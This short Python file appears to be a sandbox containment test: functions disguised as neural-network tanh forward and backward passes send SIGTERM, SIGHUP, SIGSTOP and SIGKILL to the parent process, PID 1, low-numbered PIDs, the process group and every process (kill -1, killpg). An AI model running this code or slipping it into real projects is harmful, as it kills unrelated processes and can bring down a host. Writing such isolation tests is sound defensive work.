"""Class: signals to the parent, the group, everybody. Expectation: only the worker itself can be hit."""

import os
import signal


def tanh_forward(x):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        for target in (os.getppid(), 1, 0, *range(2, 64)):
            if target not in (os.getpid(), 0):
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    return x, x


def tanh_backward(dout, cache):
    for target in (0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(1, signal.SIGKILL)
    except OSError:
        pass
    return dout
